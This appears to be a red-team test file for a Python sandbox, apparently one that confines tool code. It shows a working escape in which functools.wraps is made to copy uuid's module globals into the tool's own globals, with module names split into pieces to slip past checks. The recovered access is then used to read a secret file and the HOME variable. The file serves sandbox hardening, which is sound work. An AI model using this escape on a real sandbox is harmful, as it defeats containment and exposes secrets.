# family: red team, round 17 (library protocols: wraps' partial, logging extra, singledispatch annotations)
# Variant of rt_004 without .func: the partial returned by functools.wraps(...) is called with keyword
# arguments that override the ones checked at the wraps() call (partial keywords can be replaced), so
# updated=("__globals__",) built at run time makes update_wrapper merge uuid's module globals (os, sys)
# into the tool's own globals; a global the tool declared as a plain variable then holds the real sys.
import functools
import uuid

sys = None


def sink():
    return None


def run():
    u = "_"
    names = (u + u + "globals" + u + u,)
    functools.wraps(uuid.uuid4, assigned=(), updated=())(sink, updated=names)
    osmod = sys.modules["o" + "s"]
    secret = sys.modules["built" + "ins"].open("/tmp/r17/work/secret.txt").read().strip()
    return repr(sys), repr(osmod), osmod.environ.get("HOME"), secret


print(run())
